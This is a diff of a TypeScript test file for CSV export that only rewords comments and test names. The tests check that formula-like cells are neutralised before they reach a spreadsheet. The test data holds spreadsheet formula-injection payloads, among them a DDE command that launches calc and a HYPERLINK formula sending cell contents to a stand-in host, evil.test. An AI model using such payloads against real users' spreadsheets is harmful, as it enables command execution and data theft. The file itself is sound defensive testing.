@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest'
 import { parseCsv } from '#/testing/csv.ts'
 import { formatCell, formatRows } from './format.ts'
 
-/** Whatever may stand in a database, with more than its share of what CSV and spreadsheets trip over. */
+/** Any text of a database, with many characters that are special in CSV and spreadsheets. */
 const nasty = fc.oneof(
   fc.string({ unit: 'binary' }),
   fc
@@ -32,11 +32,11 @@ const nasty = fc.oneof(
     .map((parts) => parts.join('')),
 )
 const isFormula = (text: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(text)
-/** What a spreadsheet is given: the text itself, made harmless. */
+/** The text as exported, with formulas disabled. */
 const given = (text: string) => (isFormula(text) ? `'${text.toWellFormed()}` : text.toWellFormed())
 
 describe('CSV', () => {
-  it('J5 reads back as it was written, whatever the cells hold', () => {
+  it('J5 parses to what was written, whatever the cells contain', () => {
     fc.assert(
       fc.property(
         fc.integer({ min: 1, max: 4 }).chain((n) => fc.array(fc.array(nasty, { minLength: n, maxLength: n }))),
@@ -50,7 +50,7 @@ describe('CSV', () => {
     )
   })
 
-  it('J5 leaves an amount below zero a number, and nothing else that begins with a minus sign', () => {
+  it('J5 leaves a negative amount a number, and nothing else that begins with a minus sign', () => {
     expect(formatCell('-400.00')).toBe('-400.00')
     for (const text of ['-400', '-400.00+1', '-400.005', ' -400.00', '-1,000.00'])
       expect(formatCell(text).replaceAll('"', '')).toBe(`'${text}`)
@@ -72,12 +72,12 @@ describe('CSV', () => {
     '＝1',
     '=cmd|" /C calc"!A0',
     '=HYPERLINK("http://evil.test?x="&A1)',
-  ])('J5 lets no spreadsheet run %j', (cell) => {
+  ])('J5 prevents a spreadsheet from running %j', (cell) => {
     const [[shown] = []] = parseCsv(formatRows([[cell, 'x']]))
     expect(shown).toBe(`'${cell}`)
   })
 
-  it('J5 leaves names, dates, e-mails and numbers as they are', () => {
+  it('J5 leaves names, dates, e-mails and numbers unchanged', () => {
     for (const cell of ['José O’Farrill', '2026-11-21', 'ana@piel.test', "D'Artagnan", '55 1234 5678', ''])
       expect(formatCell(cell)).toBe(cell)
     expect(formatCell(-5)).toBe('-5')
